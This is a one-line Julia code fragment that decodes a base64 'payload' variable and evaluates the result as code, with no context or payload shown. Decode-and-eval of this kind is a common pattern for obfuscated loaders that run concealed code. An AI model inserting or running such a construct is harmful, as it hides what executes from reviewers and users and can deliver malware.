eval(Meta.parse(String(base64decode(payload))))
